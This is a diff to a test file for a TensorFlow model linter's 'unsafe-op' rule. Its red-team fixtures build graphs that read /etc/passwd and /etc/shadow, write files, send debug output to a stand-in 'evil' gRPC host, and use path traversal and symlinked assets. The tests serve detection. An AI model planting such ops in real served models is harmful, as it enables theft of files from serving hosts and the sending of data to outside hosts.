@@ -24,8 +24,11 @@ from serving_graphs import (
     tensor,
 )
 
+from typing import Any
+
 from tflint import protos
 from tflint.api import lint_file
+from tflint.finding import Severity
 
 RULE = "unsafe-op"
 ON = {"rules": {RULE: "error"}}
@@ -123,8 +126,8 @@ def _cases():
     )
     yield pytest.param(
         PATH + "\n" + node("table", "InitializeTableFromTextFileV2", "path", "path") + "\n",
-        [],
-        id="table-from-asset-file-ok",
+        [(RULE, "table", 2)],  # at info: a loader feeds such a placeholder an asset's path
+        id="table-from-fed-file-info",
     )
 
 
@@ -133,7 +136,7 @@ def test_rule(pbtxt, expected):
     assert pinned(lint_text(pbtxt, ON), rule=RULE) == expected
 
 
-def test_unreached_ops_are_one_level_below_the_rule():
+def test_dormant_ops_are_two_levels_below_the_rule():
     text = meta(
         PATH,
         READ,
@@ -142,13 +145,13 @@ def test_unreached_ops_are_one_level_below_the_rule():
         signatures=[signature("s", tensor("outputs", "o", "out:0", "DT_STRING"))],
     )
     found = [(f.node, str(f.severity)) for f in lint_text(text, ON) if f.rule == RULE]
-    assert found == [("contents", "error"), ("unused", "warning")]
+    assert found == [("contents", "error"), ("unused", "info")]
     found = [(f.node, str(f.severity)) for f in lint_text(text, {"rules": {RULE: "warning"}}) if f.rule == RULE]
     assert found == [("contents", "warning"), ("unused", "info")]
     message = next(f.message for f in lint_text(text, ON) if f.node == "unused")
     assert message == (
-        "Node 'unused' is WriteFile, which writes files on the server's host; "
-        "no signature, init or restore op reaches it, but it ships in the model"
+        "Node 'unused' runs WriteFile, which writes files (input 'filename', computed in the graph); "
+        "nothing runs it, but it ships in the model: dormant -> node 'unused'"
     )
 
 
@@ -180,9 +183,11 @@ def test_messages():
     )
     config = {"rules": {RULE: {"level": "error", "extra-ops": ["MyCustomOp"]}}}
     assert [f.message for f in lint_text(text, config) if f.rule == RULE] == [
-        "Node 'contents' runs ReadFile, which reads files on the server's host",
-        "Node 'py' runs PyFunc, which calls back into Python, which a model server does not have",
-        "Node 'custom' runs MyCustomOp, which is on unsafe-op's list of ops a model server must not run",
+        "Node 'contents' runs ReadFile, which reads files named by a fed input (input 'filename'); "
+        "it runs whenever the graph runs: run -> node 'contents'",
+        "Node 'py' runs PyFunc, which runs Python code of the exporting process; "
+        "it runs whenever the graph runs: run -> node 'py'",
+        "Node 'custom' runs MyCustomOp, which is on unsafe-op's list; it runs whenever the graph runs: run -> node 'custom'",
     ]
 
 
@@ -217,3 +222,323 @@ def test_readfile_injected_into_a_served_tf2_function(tmp_path):
     edit_saved_model(model, inject)
     findings = [f for f in lint_file(model, ON).findings if f.rule == RULE]
     assert [(f.node, f.function, f.graph) for f in findings] == [("leak/ReadFile", served, "meta graph [serve]")]
+
+
+# -- the red team's cases, triggers, targets, paths ------------------------------------------------
+
+INIT = signature("__saved_model_init_op", 'outputs { key: "__saved_model_init_op" value { name: "init" } }', method="")
+X = placeholder("x", "DT_STRING")
+SERVE_X = 'inputs { key: "x" value { name: "x:0" dtype: DT_STRING } }'
+
+
+def _const(name: str, value: str) -> str:
+    return node(
+        name,
+        "Const",
+        attrs=f'attr {{ key: "dtype" value {{ type: DT_STRING }} }} '
+        f'attr {{ key: "value" value {{ tensor {{ dtype: DT_STRING string_val: "{value}" }} }} }} ',
+    )
+
+
+def _served(*nodes: str, out: str, library: str = "", extra_signatures: tuple[str, ...] = ()) -> str:
+    sig = signature("serving_default", SERVE_X, tensor("outputs", "y", f"{out}:0", "DT_STRING"))
+    return meta(X, *nodes, library=library, signatures=[sig, *extra_signatures])
+
+
+def _strings(key: str, *values: str) -> str:
+    listed = " ".join(f's: "{value}"' for value in values)
+    return f'attr {{ key: "{key}" value {{ list {{ {listed} }} }} }} '
+
+
+def _found(text: str) -> list[tuple[str, str, str, str, float]]:
+    """(node, level, trigger, capability, security-severity) of each unsafe-op finding."""
+    result = []
+    for finding in lint_text(text, ON):
+        if finding.rule == RULE:
+            properties = dict(finding.properties or ())
+            result.append(
+                (
+                    finding.node,
+                    str(finding.severity),
+                    properties.get("trigger"),
+                    properties.get("capability"),
+                    properties.get("security-severity"),
+                )
+            )
+    return result
+
+
+def _red_team():
+    debug = node(
+        "dbg",
+        "DebugIdentity",
+        "x",
+        attrs='attr { key: "T" value { type: DT_STRING } } ' + _strings("debug_urls", "file:///tmp/dump"),
+    )
+    yield pytest.param(
+        _served(debug, out="dbg"),
+        [("dbg", "error", "serve:serving_default", "file-write", 8.5)],
+        id="debug-identity-file-url",
+    )
+    grpc = node("dbg", "DebugNanCount", "x", attrs=_strings("debug_urls", "grpc://evil:6064"))
+    yield pytest.param(
+        _served(grpc, out="dbg"), [("dbg", "error", "serve:serving_default", "network", 8.5)], id="debug-nan-count-grpc"
+    )
+    quiet = node("dbg", "DebugIdentity", "x", attrs=_strings("debug_urls"))
+    yield pytest.param(
+        _served(quiet, out="dbg"), [("dbg", "info", "serve:serving_default", "file-write", 2.0)], id="debug-no-url"
+    )
+    copy = node("c", "Copy", "x", attrs=_strings("debug_ops_spec", "DebugIdentity;file:///tmp/leak;0"))
+    yield pytest.param(
+        _served(copy, out="c"), [("c", "error", "serve:serving_default", "file-write", 8.5)], id="copy-debug-ops-spec"
+    )
+    table = meta(
+        X,
+        node("t", "HashTableV2"),
+        _const("passwd", "/etc/passwd"),
+        node("init", "InitializeTableFromTextFileV2", "t", "passwd"),
+        signatures=[INIT],
+    )
+    yield pytest.param(table, [("init", "error", "load", "file-read", 8.5)], id="table-reads-etc-passwd-at-load")
+    cache = _served(
+        node("ds", "TensorSliceDataset", "x"),
+        _const("where", "/tmp/cache"),
+        node("cached", "CacheDatasetV2", "ds", "where", "ds"),
+        out="cached",
+    )
+    yield pytest.param(
+        cache, [("cached", "error", "serve:serving_default", "file-write", 8.5)], id="cache-dataset-to-a-path"
+    )
+    memory = _served(
+        node("ds", "TensorSliceDataset", "x"),
+        _const("where", ""),
+        node("cached", "CacheDataset", "ds", "where"),
+        out="cached",
+    )
+    yield pytest.param(memory, [], id="cache-dataset-in-memory")
+    leak = _served(node("w", "WriteFile", "x", "x"), identity("y", "x", "DT_STRING"), out="w")
+    yield pytest.param(
+        leak, [("w", "error", "serve:serving_default", "file-write", 9.3)], id="write-file-named-by-request"
+    )
+    relative = _served(_const("p", "notes.txt"), node("r", "ReadFile", "p"), out="r")
+    yield pytest.param(relative, [("r", "warning", "serve:serving_default", "file-read", 5.5)], id="relative-constant")
+    for op, capability in (
+        ("DecodeProtoV2", "file-read"),
+        ("EncodeProto", "file-read"),
+    ):
+        text = _served(
+            node("p", op, "x", attrs='attr { key: "descriptor_source" value { s: "/etc/descriptors" } } '), out="p"
+        )
+        yield pytest.param(text, [("p", "error", "serve:serving_default", capability, 8.5)], id=f"{op}-descriptor-file")
+    pool = _served(
+        node("p", "DecodeProtoV2", "x", attrs='attr { key: "descriptor_source" value { s: "local://" } } '), out="p"
+    )
+    yield pytest.param(pool, [], id="decode-proto-generated-pool")
+    for op, position in (("DataServiceDatasetV4", 2), ("RegisterDatasetV2", 1), ("RemoteCall", 0)):
+        inputs = ["x"] * (position + 1)
+        text = _served(_const("a", "grpc://evil:5000"), node("n", op, *inputs[:position], "a"), out="n")
+        yield pytest.param(text, [("n", "error", "serve:serving_default", "network", 8.5)], id=f"{op}-address")
+    stderr = _served(node("p", "PrintV2", "x", attrs='attr { key: "output_stream" value { s: "stderr" } } '), out="p")
+    yield pytest.param(stderr, [("p", "info", "serve:serving_default", "logging", 2.0)], id="tf-print-to-stderr")
+    to_file = _served(
+        node("p", "PrintV2", "x", attrs='attr { key: "output_stream" value { s: "file:///tmp/out" } } '), out="p"
+    )
+    yield pytest.param(to_file, [("p", "error", "serve:serving_default", "file-write", 8.5)], id="tf-print-to-a-file")
+    for op in ("GenerateVocabRemapping", "LoadAndRemapMatrix"):
+        text = _served(_const("f", "/etc/shadow"), node("n", op, "f", "f", "f", "f", "f"), out="n")
+        yield pytest.param(text, [("n", "error", "serve:serving_default", "file-read", 8.5)], id=op)
+
+
+@pytest.mark.parametrize("text, expected", list(_red_team()))
+def test_red_team_cases(text, expected):
+    assert _found(text) == expected
+
+
+def _fn_const(name: str, op: str, value: str, *, arg: bool = False) -> str:
+    """A function `name(x) -> y` whose body runs `op` on a constant target (or on its argument)."""
+    const = (
+        f'node_def {{ name: "target" op: "Const" attr {{ key: "dtype" value {{ type: DT_STRING }} }} '
+        f'attr {{ key: "value" value {{ tensor {{ dtype: DT_STRING string_val: "{value}" }} }} }} }} '
+    )
+    source = "x" if arg else "target:output:0"
+    return (
+        f'function {{ signature {{ name: "{name}" input_arg {{ name: "x" type: DT_STRING }} output_arg {{ name: "y" type: DT_STRING }} }} '
+        f'{const}node_def {{ name: "inner" op: "{op}" input: "{source}" }} ret {{ key: "y" value: "inner:contents:0" }} }}'
+    )
+
+
+def _chain(depth: int, op: str, value: str = "/etc/passwd", *, arg: bool = False) -> str:
+    """`depth` functions deep: f0 calls f1 ... the last runs `op`."""
+    functions = []
+    for level in range(depth - 1):
+        functions.append(
+            f'function {{ signature {{ name: "f{level}" input_arg {{ name: "x" type: DT_STRING }} output_arg {{ name: "y" type: DT_STRING }} }} '
+            f'node_def {{ name: "call" op: "PartitionedCall" input: "x" {STRING_T}attr {{ key: "f" value {{ func {{ name: "f{level + 1}" }} }} }} }} '
+            'ret { key: "y" value: "call:output:0" } }'
+        )
+    functions.append(_fn_const(f"f{depth - 1}", op, value, arg=arg))
+    return function_library(*functions)
+
+
+@pytest.mark.parametrize("depth", [1, 3])
+def test_functions_deep_with_path(depth):
+    text = _served(_string_call("call", "f0", "x"), out="call", library=_chain(depth, "ReadFile"))
+    (finding,) = [f for f in lint_text(text, ON) if f.rule == RULE]
+    properties = dict(finding.properties)
+    assert (finding.node, finding.function, properties["trigger"]) == (
+        "inner",
+        f"f{depth - 1}",
+        "serve:serving_default",
+    )
+    assert properties["path"] == [
+        "signature 'serving_default' output 'y'",
+        "node 'call'",
+        *[step for level in range(depth - 1) for step in (f"function 'f{level}'", "node 'call'")],
+        f"function 'f{depth - 1}'",
+        "node 'inner'",
+    ]
+    assert properties["target-values"] == ["/etc/passwd"]
+
+
+def test_argument_traced_to_the_signature_input_through_functions():
+    text = _served(_string_call("call", "f0", "x"), out="call", library=_chain(3, "ReadFile", arg=True))
+    assert _found(text) == [("inner", "error", "serve:serving_default", "file-read", 9.3)]
+
+
+def test_if_branch_and_dataset_function_are_reached():
+    branch = _fn_const("then_branch", "WriteFile", "/tmp/pwned")
+    mapped = _fn_const("map_fn", "ReadFile", "/etc/hostname")
+    cond = node(
+        "cond",
+        "If",
+        "x",
+        "x",
+        attrs='attr { key: "then_branch" value { func { name: "then_branch" } } } '
+        'attr { key: "else_branch" value { func { name: "then_branch" } } } ',
+    )
+    ds = node("mapped", "MapDataset", "x", attrs='attr { key: "f" value { func { name: "map_fn" } } } ')
+    text = _served(
+        cond, ds, identity("both", "cond", "DT_STRING"), out="both", library=function_library(branch, mapped)
+    )
+    found = _found(text)
+    assert ("inner", "error", "serve:serving_default", "file-write", 8.5) in found
+    # The MapDataset feeds no signature output: its function ships dormant.
+    assert ("inner", "info", "dormant", "file-read", 3.0) in found
+
+
+def _graph_def_bytes(*node_defs: Any) -> str:
+    graph = protos.GraphDef()
+    for name, op, inputs, value in node_defs:
+        item = graph.node.add(name=name, op=op, input=inputs)
+        if value is not None:
+            item.attr["dtype"].type = 7
+            item.attr["value"].tensor.dtype = 7
+            item.attr["value"].tensor.string_val.append(value)
+    return "".join(f"\\{byte:03o}" for byte in graph.SerializeToString())
+
+
+def test_nested_graph_def_run_by_dataset_from_graph():
+    inner = _graph_def_bytes(("path", "Const", [], b"/tmp/written"), ("w", "WriteFile", ["path", "path"], None))
+    graph_const = node(
+        "gd",
+        "Const",
+        attrs=f'attr {{ key: "dtype" value {{ type: DT_STRING }} }} '
+        f'attr {{ key: "value" value {{ tensor {{ dtype: DT_STRING string_val: "{inner}" }} }} }} ',
+    )
+    text = _served(graph_const, node("ds", "DatasetFromGraph", "gd"), out="ds")
+    (finding,) = [f for f in lint_text(text, ON) if f.rule == RULE]
+    properties = dict(finding.properties)
+    assert (finding.node, str(finding.severity), properties["trigger"]) == ("ds", "error", "serve:serving_default")
+    assert properties["path"][-2:] == ["nested GraphDef", "node 'w'"]
+    assert properties["target-values"] == ["/tmp/written"]
+
+
+def test_nested_graph_depth_is_bounded():
+    blob = protos.GraphDef()
+    blob.node.add(name="w", op="WriteFile", input=["w", "w"])
+    for level in range(8):  # each level wraps the last in a DatasetFromGraph of its own
+        outer = protos.GraphDef()
+        const = outer.node.add(name=f"g{level}", op="Const")
+        const.attr["value"].tensor.dtype = 7
+        const.attr["value"].tensor.string_val.append(blob.SerializeToString())
+        outer.node.add(name=f"d{level}", op="DatasetFromGraph", input=[f"g{level}"])
+        blob = outer
+    from tflint.tf.security import MAX_NESTING
+
+    inner = "".join(f"\\{byte:03o}" for byte in blob.SerializeToString())
+    text = _served(
+        node(
+            "gd",
+            "Const",
+            attrs=f'attr {{ key: "value" value {{ tensor {{ dtype: DT_STRING string_val: "{inner}" }} }} }} ',
+        ),
+        node("ds", "DatasetFromGraph", "gd"),
+        out="ds",
+    )
+    assert _found(text) == []  # 9 graphs deep: past MAX_NESTING, left unread (never a crash)
+    assert MAX_NESTING < 9
+
+
+def test_saver_ops_exempt_unless_a_signature_reaches_them():
+    saver_def = 'saver_def { filename_tensor_name: "path:0" save_tensor_name: "written:0" restore_op_name: "restored" }'
+    text = meta(
+        X,
+        PATH,
+        node("written", "SaveV2", "path", "path", "path", attrs='attr { key: "dtypes" value { list { } } } '),
+        node("restored", "RestoreV2", "path", "path", "path", attrs=RESTORE_ATTRS),
+        signatures=[signature("serving_default", SERVE_X, tensor("outputs", "y", "written:0", "DT_STRING")), INIT],
+        extra=saver_def,
+    )
+    assert [(f.node, str(f.severity)) for f in lint_text(text, ON) if f.rule == RULE] == [("written", "error")]
+
+
+def test_asset_leaving_the_model_directory():
+    text = meta(
+        _const("asset_path", "vocab.txt"),
+        node("t", "HashTableV2"),
+        node("init", "InitializeTableFromTextFileV2", "t", "asset_path"),
+        signatures=[INIT],
+        extra='asset_file_def { tensor_info { name: "asset_path:0" } filename: "../../etc/passwd" }',
+    )
+    found = [(f.node, str(f.severity), dict(f.properties)["trigger"]) for f in lint_text(text, ON) if f.rule == RULE]
+    assert found == [("asset_path", "error", "load")]
+
+
+def test_asset_symlink(tmp_path):
+    model = copy_model(require(SERVING / "tf1_legacy_init_op"), tmp_path)
+    (model / "assets" / "vocab.txt").unlink()
+    (model / "assets" / "vocab.txt").symlink_to("/etc/passwd")
+    findings = [f for f in lint_file(model, ON).findings if f.rule == RULE]
+    assert [(f.severity, f.message) for f in findings] == [
+        (
+            Severity.ERROR,
+            "Asset 'vocab.txt' is a symbolic link: the loader reads whatever it points at; "
+            "it is read when the model is loaded (file read at load)",
+        )
+    ]
+
+
+def test_allow_list_mode():
+    text = _served(node("n", "StringUpper", "x"), node("r", "ReadFile", "n"), out="r")
+    config = {"rules": {RULE: {"level": "error", "allow-ops": ["Placeholder", "StringUpper"]}}}
+    found = [(f.node, f.message) for f in lint_text(text, config) if f.rule == RULE]
+    assert found == [
+        (
+            "r",
+            "Node 'r' is ReadFile, which is not on unsafe-op's allow-ops list; "
+            "it runs when signature 'serving_default' is served",
+        ),
+        (
+            "r",
+            "Node 'r' runs ReadFile, which reads files named by a signature input (input 'filename'); "
+            "it runs when signature 'serving_default' is served: "
+            "signature 'serving_default' output 'y' -> node 'r'",
+        ),
+    ]
+
+
+def test_untrusted_preset_allows_ordinary_models():
+    for name in ("tf1_legacy_init_op", "tf2_module_signatures", "tf2_keras_export"):
+        config = {"extends": "untrusted"}
+        report = lint_file(require(SERVING / name), config)
+        assert [f.message for f in report.findings if f.rule == RULE and f.severity >= Severity.WARNING] == []
